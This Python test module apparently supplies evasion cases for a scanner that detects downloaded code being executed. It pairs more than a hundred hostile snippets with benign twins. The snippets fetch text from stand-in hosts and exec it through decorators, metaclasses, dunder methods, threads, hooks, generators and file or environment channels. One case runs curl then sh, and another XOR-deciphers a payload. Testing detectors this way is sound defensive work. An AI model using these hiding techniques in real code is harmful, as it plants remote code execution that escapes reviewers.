"""Data and control that take a way which a reader of single lines does not follow."""

from __future__ import annotations

from textwrap import indent

from tests.evasions.sample import CODE, Evasion, evasion

_GET = "import urllib.request as u\n\ndef get():\n    return u.urlopen('https://stage.example.invalid/a').read()\n\n"
_OK = "def get():\n    return 'x = 1'\n\n"


def _same(title: str, code: str) -> Evasion:
    """The same code over a fetched text and over a constant."""
    return evasion(title, _GET + code, _OK + code)


def _on_a_branch(last: str) -> str:
    """A text that is deciphered letter by letter where it is not known whether that runs."""
    numbers = [ord(letter) ^ 7 for letter in CODE]
    body = f"out = ''\nfor n in {numbers}:\n    out += chr(n ^ 7)\n{last}\n"
    return "import sys\nif sys.platform != 'x':\n" + indent(body, "    ")


CASES = (
    evasion("deciphered on a branch", _on_a_branch("exec(out)"), _on_a_branch("print(len(out))")),
    evasion(
        "commands of a loop on a branch",
        """
        import os, sys
        if sys.platform != "x":
            for step in ("curl -so /tmp/u https://stage.example.invalid/a", "sh /tmp/u"):
                os.system(step)
        """,
        """
        import os, sys
        if sys.platform != "x":
            for step in ("touch /tmp/u", "ls /tmp/u"):
                os.system(step)
        """,
    ),
    _same("decorator that calls", "def now(f):\n    exec(f())\n    return f\n\n@now\ndef x():\n    return get()\n"),
    _same("decorator that is exec itself", "def text(f):\n    return get()\n\n@exec\n@text\ndef x(): ...\n"),
    _same("lambda as decorator", "@lambda f: exec(get())\ndef x(): ...\n"),
    _same(
        "class as decorator",
        "class Now:\n    def __init__(self, f):\n        exec(f())\n\n@Now\ndef x():\n    return get()\n",
    ),
    _same("decorator of a class", "def now(c):\n    exec(get())\n    return c\n\n@now\nclass A: ...\n"),
    _same(
        "decorator factory",
        "def at(n):\n    def wrap(f):\n        exec(f())\n        return f\n    return wrap\n\n"
        "@at(1)\ndef x():\n    return get()\n",
    ),
    _same(
        "metaclass __new__",
        "class M(type):\n    def __new__(m, n, b, d):\n        exec(get())\n        return super().__new__(m, n, b, d)\n\n"
        "class A(metaclass=M): ...\n",
    ),
    _same(
        "metaclass __init__",
        "class M(type):\n    def __init__(cls, n, b, d):\n        exec(get())\n\nclass A(metaclass=M): ...\n",
    ),
    _same(
        "metaclass __prepare__",
        "class M(type):\n    @classmethod\n    def __prepare__(m, n, b):\n        exec(get())\n        return {}\n\n"
        "class A(metaclass=M): ...\n",
    ),
    _same("function as metaclass", "def m(n, b, d):\n    exec(get())\n\nclass A(metaclass=m): ...\n"),
    _same(
        "__init_subclass__",
        "class B:\n    def __init_subclass__(cls):\n        exec(get())\n\nclass A(B): ...\n",
    ),
    _same("__class_getitem__", "class B:\n    def __class_getitem__(cls, k):\n        exec(get())\n\nB[1]\n"),
    _same(
        "__set_name__", "class D:\n    def __set_name__(self, o, n):\n        exec(get())\n\nclass A:\n    x = D()\n"
    ),
    _same(
        "descriptor __get__",
        "class D:\n    def __get__(self, o, t):\n        exec(get())\n\nclass A:\n    x = D()\n\nA.x\n",
    ),
    _same("property", "class A:\n    @property\n    def x(self):\n        exec(get())\n\nA().x\n"),
    _same("__getattr__ of an object", "class A:\n    def __getattr__(self, n):\n        exec(get())\n\nA().x\n"),
    _same("__call__", "class A:\n    def __call__(self):\n        exec(get())\n\nA()()\n"),
    _same("__add__", "class A:\n    def __add__(self, o):\n        exec(get())\n\nA() + 1\n"),
    _same("__getitem__", "class A:\n    def __getitem__(self, o):\n        exec(get())\n\nA()[0]\n"),
    _same("__eq__", "class A:\n    def __eq__(self, o):\n        exec(get())\n\nA() == 1\n"),
    _same(
        "__iter__",
        "class A:\n    def __iter__(self):\n        exec(get())\n        return iter(())\n\nfor _ in A(): ...\n",
    ),
    _same(
        "__str__ in an f-string",
        "class A:\n    def __str__(self):\n        exec(get())\n        return ''\n\nX = f'{A()}'\n",
    ),
    _same("__del__", "class A:\n    def __del__(self):\n        exec(get())\n\na = A()\ndel a\n"),
    _same(
        "__exit__",
        "class A:\n    def __enter__(self): ...\n    def __exit__(self, *a):\n        exec(get())\n\nwith A(): ...\n",
    ),
    _same("__bool__", "class A:\n    def __bool__(self):\n        exec(get())\n        return True\n\nif A(): ...\n"),
    _same("__contains__", "class A:\n    def __contains__(self, o):\n        exec(get())\n\n1 in A()\n"),
    _same("__missing__", "class A(dict):\n    def __missing__(self, k):\n        exec(get())\n\nA()['x']\n"),
    _same("__setattr__", "class A:\n    def __setattr__(self, k, v):\n        exec(v)\n\na = A()\na.x = get()\n"),
    _same("class body", "class A:\n    exec(get())\n"),
    _same("nested class body", "class A:\n    class B:\n        exec(get())\n"),
    _same("default argument", "def f(x=exec(get())): ...\n"),
    _same("annotation", "def f(x: exec(get())): ...\n"),
    _same("base class expression", "class A(exec(get()) or object): ...\n"),
    _same("comprehension", "[exec(c) for c in [get()]]\n"),
    _same("comprehension's condition", "[0 for c in [get()] if exec(c)]\n"),
    _same("nested comprehension", "{k: [exec(v) for v in w] for k, w in {'a': [get()]}.items()}\n"),
    _same("generator expression", "list(exec(c) for c in (get(),))\n"),
    _same("immediate lambda", "(lambda c: exec(c))(get())\n"),
    _same("curried lambdas", "(lambda f: lambda c: f(c))(exec)(get())\n"),
    _same("lambda with a default", "(lambda c=get(): exec(c))()\n"),
    _same("walrus", "exec(c) if (c := get()) else 0\n"),
    _same("match", "match get():\n    case c:\n        exec(c)\n"),
    _same("match on a structure", "match {'k': [get()]}:\n    case {'k': [c, *_]}:\n        exec(c)\n"),
    _same(
        "match on a class",
        "class P:\n    def __init__(self, c):\n        self.c = c\n\nmatch P(get()):\n    case P(c=c):\n        exec(c)\n",
    ),
    _same("exception handler", "try:\n    1 / 0\nexcept ZeroDivisionError:\n    exec(get())\n"),
    _same("else of a try", "try:\n    pass\nexcept ValueError:\n    pass\nelse:\n    exec(get())\n"),
    _same("exception's arguments", "try:\n    raise ValueError(get())\nexcept ValueError as e:\n    exec(e.args[0])\n"),
    _same("exception as text", "try:\n    raise ValueError(get())\nexcept ValueError as e:\n    exec(str(e))\n"),
    _same(
        "StopIteration's value",
        "def g():\n    return get()\n    yield\n\ntry:\n    next(g())\nexcept StopIteration as e:\n    exec(e.value)\n",
    ),
    _same(
        "exception group", "try:\n    raise ExceptionGroup('', [ValueError()])\nexcept* ValueError:\n    exec(get())\n"
    ),
    _same("generator in a loop", "def g():\n    yield get()\n\nfor c in g():\n    exec(c)\n"),
    _same("generator with next", "def g():\n    yield get()\n\nexec(next(g()))\n"),
    _same(
        "generator that is sent to",
        "def g():\n    c = yield\n    exec(c)\n    yield\n\ni = g()\nnext(i)\ni.send(get())\n",
    ),
    _same(
        "generator that delegates",
        "def g():\n    yield get()\n\ndef h():\n    yield from g()\n\nfor c in h():\n    exec(c)\n",
    ),
    _same("iter with a sentinel", "for c in iter(get, None):\n    exec(c)\n    break\n"),
    _same("coroutine by asyncio.run", "import asyncio\n\nasync def main():\n    exec(get())\n\nasyncio.run(main())\n"),
    _same(
        "coroutine that awaits",
        "import asyncio\n\nasync def code():\n    return get()\n\nasync def main():\n    exec(await code())\n\nasyncio.run(main())\n",
    ),
    _same(
        "event loop",
        "import asyncio\n\nasync def main():\n    exec(get())\n\nloop = asyncio.get_event_loop()\nloop.run_until_complete(main())\n",
    ),
    _same("callback of a loop", "import asyncio\nasyncio.new_event_loop().call_soon(lambda: exec(get()))\n"),
    _same(
        "coroutine stepped by hand",
        "async def main():\n    exec(get())\n\ntry:\n    main().send(None)\nexcept StopIteration:\n    pass\n",
    ),
    _same(
        "asynchronous generator",
        "import asyncio\n\nasync def g():\n    yield get()\n\nasync def main():\n    async for c in g():\n        exec(c)\n\nasyncio.run(main())\n",
    ),
    _same(
        "asyncio.to_thread",
        "import asyncio\n\nasync def main():\n    await asyncio.to_thread(exec, get())\n\nasyncio.run(main())\n",
    ),
    _same(
        "context manager made of a generator",
        "import contextlib\n\n@contextlib.contextmanager\ndef cm():\n    yield get()\n\nwith cm() as c:\n    exec(c)\n",
    ),
    _same(
        "context manager class",
        "class A:\n    def __enter__(self):\n        return get()\n    def __exit__(self, *a): ...\n\nwith A() as c:\n    exec(c)\n",
    ),
    _same(
        "ExitStack callback", "import contextlib\n\nwith contextlib.ExitStack() as s:\n    s.callback(exec, get())\n"
    ),
    _same("Thread", "import threading\nthreading.Thread(target=exec, args=(get(),)).start()\n"),
    _same(
        "Thread with a function",
        "import threading\n\ndef go():\n    exec(get())\n\nt = threading.Thread(target=go, daemon=True)\nt.start()\n",
    ),
    _same(
        "Thread subclass",
        "import threading\n\nclass T(threading.Thread):\n    def run(self):\n        exec(get())\n\nT().start()\n",
    ),
    _same(
        "Thread with keyword arguments",
        "import threading\n\ndef go(c):\n    exec(c)\n\nthreading.Thread(target=go, kwargs={'c': get()}).start()\n",
    ),
    _same("Timer", "import threading\nthreading.Timer(5, lambda: exec(get())).start()\n"),
    _same("Timer with arguments", "import threading\nthreading.Timer(5, exec, [get()]).start()\n"),
    _same("start_new_thread", "import _thread\n_thread.start_new_thread(exec, (get(),))\n"),
    _same("Process", "import multiprocessing\nmultiprocessing.Process(target=exec, args=(get(),)).start()\n"),
    _same("process pool", "from multiprocessing import Pool\nPool(1).apply_async(exec, (get(),))\n"),
    _same(
        "executor submit",
        "from concurrent.futures import ThreadPoolExecutor\nThreadPoolExecutor().submit(exec, get())\n",
    ),
    _same(
        "executor in with",
        "from concurrent.futures import ThreadPoolExecutor as T\n\nwith T() as t:\n    list(t.map(exec, [get()]))\n",
    ),
    _same("atexit", "import atexit\natexit.register(exec, get())\n"),
    _same("atexit as decorator", "import atexit\n\n@atexit.register\ndef bye():\n    exec(get())\n"),
    _same("signal handler", "import signal\nsignal.signal(signal.SIGALRM, lambda *a: exec(get()))\nsignal.alarm(1)\n"),
    _same("excepthook", "import sys\nsys.excepthook = lambda *a: exec(get())\n"),
    _same("settrace", "import sys\nsys.settrace(lambda *a: exec(get()))\n"),
    _same("audit hook", "import sys\nsys.addaudithook(lambda *a: exec(get()))\n"),
    _same("weakref finalizer", "import weakref\n\nclass A: ...\n\nweakref.finalize(A(), exec, get())\n"),
    _same("scheduler", "import sched\ns = sched.scheduler()\ns.enter(1, 1, exec, (get(),))\ns.run()\n"),
    _same("fork handler", "import os\nos.register_at_fork(after_in_child=lambda: exec(get()))\n"),
    _same("garbage collector callback", "import gc\ngc.callbacks.append(lambda *a: exec(get()))\n"),
    _same("partial", "import functools\nfunctools.partial(exec, get())()\n"),
    _same(
        "partial method through a thread",
        "import functools, threading\nthreading.Thread(target=functools.partial(exec, get())).start()\n",
    ),
    _same("reduce", "import functools\nfunctools.reduce(lambda f, c: f(c), [get()], exec)\n"),
    _same("map", "list(map(exec, [get()]))\n"),
    _same("map that nobody names", "[*map(exec, (get(),))]\n"),
    _same("filter", "list(filter(exec, [get()]))\n"),
    _same("sorted by a key", "sorted([get()], key=exec)\n"),
    _same("max by a key", "max([get()], key=exec)\n"),
    _same("starmap", "import itertools\nlist(itertools.starmap(exec, [(get(),)]))\n"),
    _same("re.sub with a function", "import re\nre.sub('x', lambda m: exec(get()) or '', 'x')\n"),
    _same("global assigned in a function", "C = ''\n\ndef load():\n    global C\n    C = get()\n\nload()\nexec(C)\n"),
    _same(
        "nonlocal",
        "def outer():\n    c = ''\n    def load():\n        nonlocal c\n        c = get()\n    load()\n    exec(c)\n\nouter()\n",
    ),
    _same("closure", "def make(c):\n    def go():\n        exec(c)\n    return go\n\nmake(get())()\n"),
    _same("attribute of a class", "class S: ...\n\nS.c = get()\nexec(S.c)\n"),
    _same("setattr and getattr", "class S: ...\n\nsetattr(S, 'c', get())\nexec(getattr(S, 'c'))\n"),
    _same("attribute of a function", "def s(): ...\n\ns.c = get()\nexec(s.c)\n"),
    _same("SimpleNamespace", "import types\ns = types.SimpleNamespace(c=get())\nexec(s.c)\n"),
    _same("dataclass", "from dataclasses import dataclass\n\n@dataclass\nclass S:\n    c: bytes\n\nexec(S(get()).c)\n"),
    _same("namedtuple", "from collections import namedtuple\nS = namedtuple('S', 'c')\nexec(S(get()).c)\n"),
    _same("list", "q = []\nq.append(get())\nexec(q.pop())\n"),
    _same("dict", "d = {}\nd['c'] = get()\nexec(d.get('c'))\n"),
    _same("dict update", "d = {}\nd.update(c=get())\nexec(d['c'])\n"),
    _same("dispatch table", "table = {'a': len, 'b': exec}\ntable['b'](get())\n"),
    _same("deque", "from collections import deque\nq = deque()\nq.append(get())\nexec(q.popleft())\n"),
    _same("queue", "import queue\nq = queue.Queue()\nq.put(get())\nexec(q.get())\n"),
    _same("context variable", "import contextvars\nv = contextvars.ContextVar('v')\nv.set(get())\nexec(v.get())\n"),
    _same("environment variable as channel", "import os\nos.environ['C'] = get().decode()\nexec(os.environ['C'])\n"),
    _same("file as channel", "import os\nopen('/tmp/c', 'wb').write(get())\nexec(open('/tmp/c').read())\n"),
    _same(
        "file as channel, in with",
        "with open('/tmp/c', 'wb') as f:\n    f.write(get())\nwith open('/tmp/c') as f:\n    exec(f.read())\n",
    ),
    _same("StringIO", "import io\nb = io.BytesIO()\nb.write(get())\nexec(b.getvalue())\n"),
    _same("BytesIO read", "import io\nexec(io.BytesIO(get()).read())\n"),
    _same(
        "print into a file", "with open('/tmp/c', 'w') as f:\n    print(get(), file=f)\nexec(open('/tmp/c').read())\n"
    ),
    _same("starred arguments", "exec(*[get()])\n"),
    _same("starred keywords", "def go(*, c):\n    exec(c)\n\ngo(**{'c': get()})\n"),
    _same("varargs", "def go(*a, **k):\n    a[0](k['c'])\n\ngo(exec, c=get())\n"),
    _same("tuple swap", "a, b = get(), 1\nb, a = a, b\nexec(b)\n"),
    _same("star pattern", "first, *rest = [1, get()]\nexec(rest[0])\n"),
    _same("conditional expression", "exec(get() if __name__ else '')\n"),
    _same("short circuit", "__name__ and exec(get())\n"),
    _same("assert", "assert exec(get()) is None\n"),
    _same("while loop", "n = 0\nwhile n < 1:\n    n += 1\n    exec(get())\n"),
    _same("while with walrus", "while c := get():\n    exec(c)\n    break\n"),
    _same("for else", "for _ in ():\n    pass\nelse:\n    exec(get())\n"),
    _same("loop target is an attribute", "class S: ...\n\nfor S.c in [get()]:\n    exec(S.c)\n"),
    _same("loop target is an item", "d = {}\nfor d['c'] in [get()]:\n    exec(d['c'])\n"),
    _same("recursion", "def go(n):\n    return get() if n == 0 else go(n - 1)\n\nexec(go(3))\n"),
    _same("static method", "class A:\n    @staticmethod\n    def go():\n        exec(get())\n\nA.go()\n"),
    _same("class method", "class A:\n    @classmethod\n    def go(cls):\n        exec(get())\n\nA.go()\n"),
    _same(
        "method of super",
        "class A:\n    def go(self):\n        exec(get())\n\nclass B(A):\n    def go(self):\n        super().go()\n\nB().go()\n",
    ),
    _same("unbound method", "class A:\n    def go(self):\n        exec(get())\n\nA.go(None)\n"),
    _same("enum", "import enum\n\nclass E(enum.Enum):\n    C = get()\n\nexec(E.C.value)\n"),
    _same("lru_cache", "import functools\n\n@functools.lru_cache\ndef code():\n    return get()\n\nexec(code())\n"),
    _same(
        "wraps",
        "import functools\n\ndef deco(f):\n    @functools.wraps(f)\n    def inner(*a):\n        return f(*a)\n    return inner\n\n@deco\ndef code():\n    return get()\n\nexec(code())\n",
    ),
    _same("singledispatch", "import functools\n\n@functools.singledispatch\ndef go(x):\n    exec(x)\n\ngo(get())\n"),
    _same(
        "cached property",
        "import functools\n\nclass A:\n    @functools.cached_property\n    def c(self):\n        return get()\n\nexec(A().c)\n",
    ),
    _same("builtin replaced", "import builtins\nbuiltins.print = exec\nprint(get())\n"),
    _same("name renamed to something harmless", "from builtins import exec as log\nlog(get())\n"),
    _same("compile first", "exec(compile(get(), 'x', 'exec'))\n"),
    _same("string formatting on the way", "exec('%s' % get())\n"),
    _same("f-string on the way", "exec(f'{get()}')\n"),
    _same("sliced on the way", "exec(get()[4:])\n"),
    _same("split on the way", "exec(get().split(b'|')[1])\n"),
    _same("replaced on the way", "exec(get().replace(b'a', b'b'))\n"),
    _same("filtered character by character", "out = []\nfor ch in get():\n    out.append(ch)\nexec(bytes(out))\n"),
    _same("joined on the way", "exec(''.join(map(chr, get())))\n"),
    _same("parsed on the way", "import re\nexec(re.search('<c>(.*)</c>', str(get())).group(1))\n"),
    _same("found by regular expression", "import re\nexec(re.findall('<c>(.*?)</c>', str(get()))[0])\n"),
    _same("ast first", "import ast\nexec(compile(ast.parse(get()), '', 'exec'))\n"),
    _same("json on the way", "import json\nexec(json.loads(get())['c'])\n"),
    _same("copied on the way", "import copy\nexec(copy.deepcopy(get()))\n"),
    _same("textwrap on the way", "import textwrap\nexec(textwrap.dedent(get().decode()))\n"),
    evasion(
        "decoded and executed in two functions",
        f"import base64\n\ndef a():\n    return base64.b64decode({__import__('base64').b64encode(CODE.encode())!r})\n\n"
        "def b(c):\n    exec(c)\n\nb(a())\n",
        "import base64\n\ndef a():\n    return base64.b64decode('R0lGODlh')\n\ndef b(c):\n    return len(c)\n\nb(a())\n",
    ),
    evasion(
        "called only by the user, from a raw address",
        "import urllib.request as u\n\ndef helper():\n    exec(u.urlopen('http://192.0.2.7/a').read())\n",
        "import urllib.request\n\ndef helper():\n    return urllib.request.urlopen('https://api.example.invalid/').read()\n",
    ),
)
